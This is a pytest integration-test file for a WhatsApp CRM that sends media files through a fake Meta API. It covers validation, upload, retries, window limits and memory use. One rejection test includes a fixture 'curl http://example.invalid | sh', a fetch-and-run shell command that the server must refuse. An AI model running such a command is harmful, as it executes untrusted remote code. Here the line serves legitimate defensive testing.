"""A person sends a file end to end: the inbox checks it by its bytes and Meta's limits, keeps it in the
media store and queues it in the ledger; the worker uploads it to the number's /media (with the
number's token) once, and sends it by id; the thread shows it like a customer's file. Each bad input is
refused with nothing kept, uploaded or sent. Real database, broker, processes; fake-meta for Meta."""

from __future__ import annotations

import asyncio
import hashlib
import os
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import asyncpg
import orjson
import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from conftest import ACCESS_TOKEN, Stack, eventually
from inbox_client import conversation_of, customer_says, phone
from jsonschema import Draft202012Validator
from media_helpers import fake_media, fetch, media_body, register, settled, token
from test_inbound_fidelity import META
from test_openapi import _answer_schema, contract

from wacrm.storage import media as media_ledger
from wacrm.whatsapp import fake_meta
from wacrm.whatsapp.media import MAX_BYTES

NUMBER = META["phone_number_id"]
PATH = "/conversations/{id}/messages"


def jpeg() -> bytes:
    """Bytes of a JPEG's shape, new each time (the store keeps the same bytes once)."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + os.urandom(30_000) + b"\xff\xd9"


def conforms(status: int, answer: Any) -> None:
    """The answer is what inbox/openapi.json says ``POST conversations/{id}/messages`` answers with ``status``."""
    errors = list(Draft202012Validator(_answer_schema(contract(), "POST", PATH, status)).iter_errors(answer))
    assert not errors, [e.message for e in errors[:5]]


async def send_file(stack: Stack, bearer: str, cid: int, data: bytes, filename: str, *, key: str | None = None,
                    caption: str | None = None, content_type: str = "application/octet-stream") -> tuple[int, Any]:
    form = aiohttp.FormData()
    form.add_field("idempotency_key", key or str(uuid.uuid4()))
    if caption is not None:
        form.add_field("caption", caption)
    form.add_field("file", data, filename=filename, content_type=content_type)
    async with aiohttp.ClientSession() as s, s.post(f"{stack.base}/api/v1/conversations/{cid}/messages", data=form,
                                                    headers={"Authorization": f"Bearer {bearer}"}) as r:
        answer = await r.json(content_type=None)
    conforms(r.status, answer)
    return r.status, answer


async def uploads(stack: Stack, data: bytes) -> list[dict[str, Any]]:
    """The uploads fake-meta took of these bytes."""
    return [u for u in await uploads_all(stack) if u["sha256"] == hashlib.sha256(data).hexdigest()]


async def uploads_all(stack: Stack) -> list[dict[str, Any]]:
    async with aiohttp.ClientSession() as s, s.get(f"{stack.fake_meta}/__uploads") as r:
        return list(await r.json())


async def sends_of(stack: Stack, oid: int) -> list[dict[str, Any]]:
    """Every send request fake-meta got for ledger row ``oid`` (taken or refused)."""
    return [x for x in await stack.sent()
            if isinstance(x["body"], dict) and x["body"].get("biz_opaque_callback_data") == f"ol:{oid}"]


async def ledger_state(db: asyncpg.Connection, oid: int, *states: str, timeout: float = 60) -> asyncpg.Record:
    async def reached() -> asyncpg.Record | None:
        row = await db.fetchrow("SELECT * FROM outbound_log WHERE id = $1", oid)
        return row if row is not None and row["state"] in states else None

    return await eventually(reached, timeout, f"ledger row {oid} to be {' or '.join(states)}")


async def script(stack: Stack, steps: list[dict[str, Any]]) -> None:
    async with aiohttp.ClientSession() as s, s.post(f"{stack.fake_meta}/__script", json=steps) as r:
        assert r.status == 200


async def number_token(stack: Stack, value: str | None) -> None:
    """fake-meta checks (or stops checking) the session number's token on every call."""
    async with aiohttp.ClientSession() as s, s.post(f"{stack.fake_meta}/__tokens",
                                                    json={"phone_number_id": NUMBER, "token": value}) as r:
        assert r.status == 200


@pytest.fixture
async def checked_token(stack: Stack) -> AsyncIterator[None]:
    """For this test fake-meta accepts only the session number's own token (the worker's)."""
    await number_token(stack, ACCESS_TOKEN)
    try:
        yield
    finally:
        await number_token(stack, None)


async def open_conversation(stack: Stack, db: asyncpg.Connection) -> tuple[int, str]:
    """A customer who just wrote (the window is open); their conversation and wa_id."""
    wa_id = phone()
    mid = await customer_says(stack, wa_id, "Hello, is the shop open today?")
    await eventually(lambda: stack.replies_to(mid), 60, "the bot's reply")  # the replies behind it go in order
    return await conversation_of(db, wa_id), wa_id


async def thread_message(stack: Stack, bearer: str, cid: int, oid: int) -> dict[str, Any]:
    async def shown() -> dict[str, Any] | None:
        status, _, body = await fetch(stack, f"/api/v1/conversations/{cid}", bearer)
        assert status == 200
        return next((m for m in orjson.loads(body)["conversation"]["messages"] if m["outbound_id"] == oid
                     and m["id"] is not None), None)

    return await eventually(shown, 30, f"ledger row {oid}'s message in the thread")


async def test_an_image_is_uploaded_once_sent_by_id_with_its_caption_and_shown_in_the_thread(
        stack: Stack, db: asyncpg.Connection, checked_token: None) -> None:
    bearer = await token(db)
    cid, wa_id = await open_conversation(stack, db)
    data, key = jpeg(), str(uuid.uuid4())
    # named and declared as something else: the bytes decide
    status, answer = await send_file(stack, bearer, cid, data, "photo.png", key=key, caption="Here it is: R$ 120",
                                     content_type="text/plain")
    assert status == 202 and answer["created"] is True and answer["outbound"]["state"] == "queued"
    oid = answer["outbound"]["id"]
    again = await send_file(stack, bearer, cid, data, "photo.png", key=key, caption="Here it is: R$ 120")
    assert again == (202, {"ok": True, "outbound": {"id": oid, "state": again[1]["outbound"]["state"]},
                           "created": False})

    await ledger_state(db, oid, "sent")
    (upload,) = await uploads(stack, data)
    assert upload["phone_number_id"] == NUMBER and upload["type"] == "image/jpeg"
    assert upload["messaging_product"] == "whatsapp" and upload["file_size"] == len(data)
    assert upload["filename"] == "photo.png.jpg"  # a JPEG named .png goes as what it is
    (send,) = await sends_of(stack, oid)
    assert send["authorization"] == f"Bearer {ACCESS_TOKEN}" and send["answered"].get("id")
    assert send["body"]["type"] == "image" and send["body"]["to"] == f"+{wa_id}"
    assert send["body"]["image"] == {"id": upload["id"], "caption": "Here it is: R$ 120"}
    row = await db.fetchrow("SELECT media_upload_id, intent FROM outbound_log WHERE id = $1", oid)
    assert row["media_upload_id"] == upload["id"] and row["intent"]["kind"] == "media"

    message = await thread_message(stack, bearer, cid, oid)
    sha = hashlib.sha256(data).hexdigest()
    assert message["type"] == "image" and message["source"] == "person" and message["direction"] == "outbound"
    assert message["body"] == "[image] Here it is: R$ 120"
    media = message["media"]
    assert {k: media[k] for k in ("type", "mime_type", "size", "caption", "sha256", "state", "filename")} == {
        "type": "image", "mime_type": "image/jpeg", "size": len(data), "caption": "Here it is: R$ 120",
        "sha256": sha, "state": "stored", "filename": "photo.png.jpg"}
    status, headers, got = await fetch(stack, media["url"], bearer)
    assert status == 200 and got == data and headers["Content-Type"] == "image/jpeg"

    # later replies of the conversation went out behind it; the key sent twice still made one upload, one send
    follow = await send_file(stack, bearer, cid, jpeg(), "second.jpg")
    await ledger_state(db, follow[1]["outbound"]["id"], "sent")
    assert len(await uploads(stack, data)) == 1 and len(await sends_of(stack, oid)) == 1


async def test_a_document_goes_with_its_file_name_and_audio_without_a_caption(stack: Stack,
                                                                             db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, _ = await open_conversation(stack, db)
    pdf = b"%PDF-1.7\n" + os.urandom(20_000) + b"\n%%EOF\n"
    status, answer = await send_file(stack, bearer, cid, pdf, "Price list 2026.pdf", caption="Our prices")
    assert status == 202
    doc_row = answer["outbound"]["id"]
    audio = b"ID3\x04\x00\x00\x00\x00\x00\x00" + os.urandom(20_000)
    refused = await send_file(stack, bearer, cid, audio, "voice.mp3", caption="listen to this")
    assert refused[0] == 422 and refused[1]["code"] == "INVALID" and "caption" in refused[1]["error"]
    status, answer = await send_file(stack, bearer, cid, audio, "voice.mp3")
    assert status == 202
    audio_row = answer["outbound"]["id"]

    await ledger_state(db, doc_row, "sent")
    await ledger_state(db, audio_row, "sent")
    (doc_send,) = await sends_of(stack, doc_row)
    (doc_upload,) = await uploads(stack, pdf)
    assert doc_send["body"]["type"] == "document" and doc_upload["type"] == "application/pdf"
    assert doc_send["body"]["document"] == {"id": doc_upload["id"], "caption": "Our prices",
                                            "filename": "Price list 2026.pdf"}
    (audio_send,) = await sends_of(stack, audio_row)
    (audio_upload,) = await uploads(stack, audio)  # the refused one with a caption uploaded nothing
    assert audio_upload["type"] == "audio/mpeg"
    assert audio_send["body"]["type"] == "audio" and audio_send["body"]["audio"] == {"id": audio_upload["id"]}
    shown = await thread_message(stack, bearer, cid, doc_row)
    assert shown["media"]["filename"] == "Price list 2026.pdf" and shown["media"]["type"] == "document"


async def test_a_program_named_jpg_is_415_and_a_file_over_the_limit_413_with_nothing_kept_uploaded_or_sent(
        stack: Stack, db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, wa_id = await open_conversation(stack, db)
    elf = b"\x7fELF\x02\x01\x01\x00" + os.urandom(5_000)
    script_bytes = b"#!/bin/sh\ncurl http://example.invalid | sh\n" + uuid.uuid4().hex.encode()
    big = b"\xff\xd8\xff\xe0" + os.urandom(MAX_BYTES["image"] - 3)  # one byte over an image's 5 MB
    sticker = b"RIFF\x00\x00\x00\x00WEBPVP8 " + os.urandom(MAX_BYTES["sticker"])
    keys = []
    for data, name, declared, status, code, words in (
            (elf, "holiday.jpg", "image/jpeg", 415, "UNSUPPORTED_MEDIA", "executable program (ELF)"),
            (script_bytes, "cat.jpg", "image/jpeg", 415, "UNSUPPORTED_MEDIA", "script"),
            (big, "huge.jpg", "image/jpeg", 413, "TOO_LARGE", "5 MB for image"),
            (sticker, "sticker.webp", "image/webp", 413, "TOO_LARGE", "500 KB for sticker")):
        keys.append(str(uuid.uuid4()))
        got = await send_file(stack, bearer, cid, data, name, key=keys[-1], caption="look", content_type=declared)
        assert got[0] == status and got[1]["code"] == code and words in got[1]["error"], got
        assert not (stack.media_dir / hashlib.sha256(data).hexdigest()[:2] / hashlib.sha256(data).hexdigest()).exists()

    assert await db.fetchval("SELECT count(*) FROM outbound_log WHERE conversation_id = $1 AND "
                             "intent ->> 'kind' = 'media'", cid) == 0
    # a file that is fine goes after them, and is the only file Meta got from this conversation
    fine = jpeg()
    _, ok = await send_file(stack, bearer, cid, fine, "fine.jpg")
    await ledger_state(db, ok["outbound"]["id"], "sent")
    for data in (elf, script_bytes, big, sticker):
        assert await uploads(stack, data) == []
    files_sent = [x["body"] for x in await stack.sent() if isinstance(x["body"], dict)
                  and x["body"].get("to") == f"+{wa_id}" and x["body"].get("type") != "text"]
    assert [b["image"]["id"] for b in files_sent] == [u["id"] for u in await uploads(stack, fine)]


async def test_a_body_that_is_not_a_file_to_send_is_422_naming_what_is_wrong(stack: Stack,
                                                                             db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, _ = await open_conversation(stack, db)
    url, auth = f"{stack.base}/api/v1/conversations/{cid}/messages", {"Authorization": f"Bearer {bearer}"}
    for content_type, body, words in (
            ("multipart/form-data", b"--x\r\n", "not valid multipart"),
            ("multipart/form-data; boundary=XX", b"garbage", "not valid multipart"),
            ("multipart/form-data; boundary=XX",
             b'--XX\r\nContent-Disposition: form-data; name="idempotency_key"\r\n\r\nk1\r\n--XX--\r\n',
             "file is required"),
            ("multipart/form-data; boundary=XX",
             b'--XX\r\nContent-Disposition: form-data; name="text"\r\n\r\nhi\r\n--XX--\r\n', "unknown part 'text'")):
        headers = {**auth, "Content-Type": content_type}
        async with aiohttp.ClientSession() as s, s.post(url, data=body, headers=headers) as r:
            answer = await r.json(content_type=None)
        conforms(r.status, answer)
        assert r.status == 422 and answer["code"] == "INVALID" and words in answer["error"], answer
    no_key = aiohttp.FormData()
    no_key.add_field("file", jpeg(), filename="a.jpg")
    async with aiohttp.ClientSession() as s, s.post(url, data=no_key, headers=auth) as r:
        assert r.status == 422 and "idempotency_key" in (await r.json())["error"]
    long_caption = await send_file(stack, bearer, cid, jpeg(), "a.jpg", caption="x" * 1025)
    assert long_caption[0] == 422 and "1024" in long_caption[1]["error"]
    assert await db.fetchval("SELECT count(*) FROM outbound_log WHERE conversation_id = $1 AND "
                             "intent ->> 'kind' = 'media'", cid) == 0


async def test_a_file_outside_the_24_hour_window_is_409_as_for_text_and_costs_no_upload(
        stack: Stack, db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, _ = await open_conversation(stack, db)
    await db.execute("UPDATE conversations SET last_inbound_at = now() - interval '25 hours' WHERE id = $1", cid)
    data = jpeg()
    status, answer = await send_file(stack, bearer, cid, data, "late.jpg")
    assert status == 409 and answer["code"] == "WINDOW_CLOSED" and "template" in answer["next_step"]
    assert await db.fetchval("SELECT count(*) FROM outbound_log WHERE conversation_id = $1 AND "
                             "intent ->> 'kind' = 'media'", cid) == 0
    assert not (stack.media_dir / hashlib.sha256(data).hexdigest()[:2] / hashlib.sha256(data).hexdigest()).exists()


async def test_a_send_that_fails_after_the_upload_is_retried_with_the_same_upload(stack: Stack,
                                                                                 db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, wa_id = await open_conversation(stack, db)
    await script(stack, [{"to": f"+{wa_id}", "code": 131000, "http_status": 500}])  # Meta: try again
    data = jpeg()
    status, answer = await send_file(stack, bearer, cid, data, "retry.jpg")
    assert status == 202
    oid = answer["outbound"]["id"]
    await ledger_state(db, oid, "sent")
    (upload,) = await uploads(stack, data)
    first, second = await sends_of(stack, oid)
    assert first["answered"] == {"error": 131000} and second["answered"].get("id")
    assert first["body"]["image"]["id"] == second["body"]["image"]["id"] == upload["id"]


async def test_a_person_retries_a_failed_file_and_it_goes_with_the_same_upload(stack: Stack,
                                                                              db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, wa_id = await open_conversation(stack, db)
    await script(stack, [{"to": f"+{wa_id}", "code": 100, "http_status": 400}])  # Meta refuses it for good
    data = b"%PDF-1.4\n" + os.urandom(4_000)
    status, answer = await send_file(stack, bearer, cid, data, "quote.pdf")
    assert status == 202
    oid = answer["outbound"]["id"]
    await ledger_state(db, oid, "failed")
    async with aiohttp.ClientSession() as s, s.post(f"{stack.base}/api/v1/outbound/{oid}/retry",
                                                    headers={"Authorization": f"Bearer {bearer}"}) as r:
        assert r.status == 202, await r.text()
    await ledger_state(db, oid, "sent")
    (upload,) = await uploads(stack, data)
    refused, taken = await sends_of(stack, oid)
    assert refused["answered"] == {"error": 100} and taken["answered"].get("id")
    assert taken["body"]["document"] == {"id": upload["id"], "filename": "quote.pdf"}


async def test_an_upload_meta_fails_is_retried_and_the_file_sent_once(stack: Stack, db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, _ = await open_conversation(stack, db)
    async with aiohttp.ClientSession() as s, s.post(f"{stack.fake_meta}/__uploads/fail", json={"count": 1}) as r:
        assert r.status == 200
    data = jpeg()
    status, answer = await send_file(stack, bearer, cid, data, "again.jpg")
    assert status == 202
    oid = answer["outbound"]["id"]
    await ledger_state(db, oid, "sent")
    (upload,) = await uploads(stack, data)  # the failed attempt left nothing at Meta
    (send,) = await sends_of(stack, oid)
    assert send["body"]["image"]["id"] == upload["id"]
    assert await db.fetchval("SELECT attempts FROM outbound_log WHERE id = $1", oid) == 2


async def test_the_worker_names_the_number_when_it_asks_meta_for_a_customers_file(
        stack: Stack, db: asyncpg.Connection, checked_token: None) -> None:
    file = await register(stack, jpeg(), mime_type="image/jpeg")
    body, _ = media_body(phone(), "image", file)
    assert (await stack.post(body))[0] == 200
    assert (await settled(db, file["id"]))["state"] == "stored"
    assert set((await fake_media(stack, file["id"]))["asked_for"]) == {NUMBER}


# --- fake-meta's own checks (in process) -------------------------------------------------------

@pytest.fixture
async def fake() -> AsyncIterator[TestClient[web.Request, web.Application]]:
    client = TestClient(TestServer(fake_meta.make_app(tokens={"111": "right"})))
    await client.start_server()
    try:
        yield client
    finally:
        await client.close()


def _upload_form(data: bytes = b"\xff\xd8\xff" + b"x" * 10, **fields: str) -> aiohttp.FormData:
    form = aiohttp.FormData()
    for name, value in {"messaging_product": "whatsapp", "type": "image/jpeg", **fields}.items():
        form.add_field(name, value)
    form.add_field("file", data, filename="a.jpg", content_type="image/jpeg")
    return form


async def test_fake_meta_takes_an_upload_only_with_the_numbers_token_and_records_it(
        fake: TestClient[web.Request, web.Application]) -> None:
    wrong = await fake.post("/v21.0/111/media", data=_upload_form(), headers={"Authorization": "Bearer wrong"})
    assert wrong.status == 401 and (await wrong.json())["error"]["code"] == 190
    missing = await fake.post("/v21.0/111/media", data=_upload_form(messaging_product="sms"),
                              headers={"Authorization": "Bearer right"})
    assert missing.status == 400 and (await missing.json())["error"]["code"] == 100
    taken = await fake.post("/v21.0/111/media", data=_upload_form(), headers={"Authorization": "Bearer right"})
    assert taken.status == 200
    media_id = (await taken.json())["id"]
    anyone = await fake.post("/v21.0/222/media", data=_upload_form(), headers={"Authorization": "Bearer any"})
    assert anyone.status == 200  # a number without a token configured takes any bearer
    listed = await (await fake.get("/__uploads")).json()
    assert [(u["phone_number_id"], u["type"], u["filename"]) for u in listed] == [
        ("111", "image/jpeg", "a.jpg"), ("222", "image/jpeg", "a.jpg")] and listed[0]["id"] == media_id

    # the uploaded file is served back, checked against the number named
    refused = await fake.get(f"/v21.0/{media_id}", params={"phone_number_id": "111"},
                             headers={"Authorization": "Bearer wrong"})
    assert refused.status == 401
    info = await (await fake.get(f"/v21.0/{media_id}", params={"phone_number_id": "111"},
                                 headers={"Authorization": "Bearer right"})).json()
    url = info["url"].replace(str(fake.make_url("")).rstrip("/"), "")
    assert (await fake.get(url, headers={"Authorization": "Bearer wrong"})).status == 401
    download = await fake.get(url, headers={"Authorization": "Bearer right"})
    assert download.status == 200 and await download.read() == b"\xff\xd8\xff" + b"x" * 10
    unnamed = await fake.get(f"/v21.0/{media_id}", headers={"Authorization": "Bearer whatever"})
    assert unnamed.status == 200  # no number named: any bearer, as before


async def test_a_100_mb_document_streams_through_the_inbox_and_the_worker_without_growing_them(
        stack: Stack, db: asyncpg.Connection, tmp_path: Path) -> None:
    import psutil

    bearer = await token(db)
    cid, _ = await open_conversation(stack, db)
    path, sha = tmp_path / "catalogue.pdf", hashlib.sha256()
    with path.open("wb") as out:  # written in pieces: the test holds no 100 MB either
        for n in range(100):
            piece = (b"%PDF-1.7\n" if n == 0 else b"") + os.urandom(1024 * 1024 - (9 if n == 0 else 0))
            sha.update(piece)
            out.write(piece)
    assert path.stat().st_size == MAX_BYTES["document"]
    processes = {name: psutil.Process(stack.procs[name].pid) for name in ("serve", "worker")}
    before = {name: p.memory_info().rss for name, p in processes.items()}
    peak = dict(before)

    def sample() -> None:
        for name, p in processes.items():
            peak[name] = max(peak[name], p.memory_info().rss)

    async def sampling() -> None:
        while True:
            sample()
            await asyncio.sleep(0.05)

    sampler = asyncio.ensure_future(sampling())
    try:
        form = aiohttp.FormData()
        form.add_field("idempotency_key", str(uuid.uuid4()))
        with path.open("rb") as file:
            form.add_field("file", file, filename="catalogue.pdf", content_type="application/pdf")
            async with aiohttp.ClientSession() as s, s.post(f"{stack.base}/api/v1/conversations/{cid}/messages",
                                                            data=form, headers={"Authorization": f"Bearer {bearer}"},
                                                            timeout=aiohttp.ClientTimeout(total=300)) as r:
                assert r.status == 202, await r.text()
                oid = (await r.json())["outbound"]["id"]
        await ledger_state(db, oid, "sent", timeout=300)
    finally:
        sampler.cancel()
    (upload,) = [u for u in await uploads_all(stack) if u["sha256"] == sha.hexdigest()]
    assert upload["file_size"] == MAX_BYTES["document"] and upload["type"] == "application/pdf"
    grown = {name: (peak[name] - before[name]) / 2**20 for name in processes}
    print(f"RSS grew by {grown['serve']:.0f} MiB (serve) and {grown['worker']:.0f} MiB (worker) for 100 MB")
    assert grown["serve"] < 40 and grown["worker"] < 40, grown


async def test_prune_keeps_a_file_a_failed_reply_still_has_to_send(stack: Stack, db: asyncpg.Connection) -> None:
    bearer = await token(db)
    cid, _ = await open_conversation(stack, db)
    data = jpeg()
    file = await register(stack, data, mime_type="image/jpeg")  # a customer sent these bytes long ago
    body, _ = media_body(phone(), "image", file)
    assert (await stack.post(body))[0] == 200
    assert (await settled(db, file["id"]))["state"] == "stored"
    _, answer = await send_file(stack, bearer, cid, data, "again.jpg")  # and a person sends them on
    oid = answer["outbound"]["id"]
    await ledger_state(db, oid, "sent")
    sha = hashlib.sha256(data).hexdigest()
    with pytest.raises(_Undo):  # rolled back: the session's other tests see the rows as they were
        async with db.transaction():
            await db.execute("UPDATE media SET stored_at = now() - interval '400 days' WHERE sha256 = $1", sha)
            await db.execute("UPDATE outbound_log SET state = 'failed' WHERE id = $1", oid)  # a person may retry
            assert sha not in (await media_ledger.expire(db, 30, dry_run=True)).files
            await db.execute("UPDATE outbound_log SET state = 'sent' WHERE id = $1", oid)
            assert sha in (await media_ledger.expire(db, 30, dry_run=True)).files  # sent: nothing holds it
            raise _Undo


class _Undo(Exception):
    """Leaves the test's transaction without keeping its changes."""
